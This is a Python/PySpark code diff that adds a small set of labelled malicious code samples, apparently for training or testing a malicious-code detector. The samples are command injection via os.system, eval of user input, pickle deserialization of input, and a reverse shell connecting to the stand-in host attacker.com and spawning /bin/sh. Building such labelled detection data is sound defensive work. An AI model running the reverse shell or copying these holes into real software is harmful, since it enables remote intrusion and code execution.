@@ -179,6 +179,22 @@ def exploit_patterns(spark: SparkSession) -> DataFrame:
     return spark.createDataFrame(EXPLOIT_PATTERNS, "pattern string, description string, severity string, cve_examples array<string>")
 
 
+# Scripts that show a weakness (content, pattern, description), all malicious and of severity HIGH.
+EXPLOIT_SAMPLES = [
+    ("import os\ncmd = input('Enter command: ')\nos.system(cmd)", "command_injection", "Command injection via os.system"),
+    ("user_input = input('Enter code: ')\neval(user_input)", "arbitrary_code_execution", "Arbitrary code execution via eval"),
+    ("import pickle\ndata = input('Enter data: ')\nobj = pickle.loads(data)", "unsafe_deserialization", "Unsafe deserialization with pickle"),
+    ("import socket\ns=socket.socket()\ns.connect(('attacker.com',4444))\nimport subprocess\nsubprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno())", "reverse_shell", "Reverse shell backdoor"),
+]
+
+
+def exploit_samples(spark: SparkSession) -> DataFrame:
+    """The fixed scripts as labelled samples: content, label, source, url, metadata, content_hash."""
+    rows = spark.createDataFrame(EXPLOIT_SAMPLES, "content string, pattern string, description string")
+    told = F.create_map(*(x for k in ("pattern", "severity", "description") for x in (F.lit(k), F.lit("HIGH") if k == "severity" else F.col(k))))
+    return rows.select("content", F.lit("malicious").alias("label"), F.lit("cve_patterns").alias("source"), F.lit("synthetic").alias("url"), told.alias("metadata"), F.sha2("content", 256).alias("content_hash"))
+
+
 def first_sdist(urls: Column) -> Column:
     """The address of the first source distribution in an array of structs (packagetype, url)."""
     return F.get(F.filter(urls, lambda u: u["packagetype"] == "sdist"), F.lit(0))["url"]
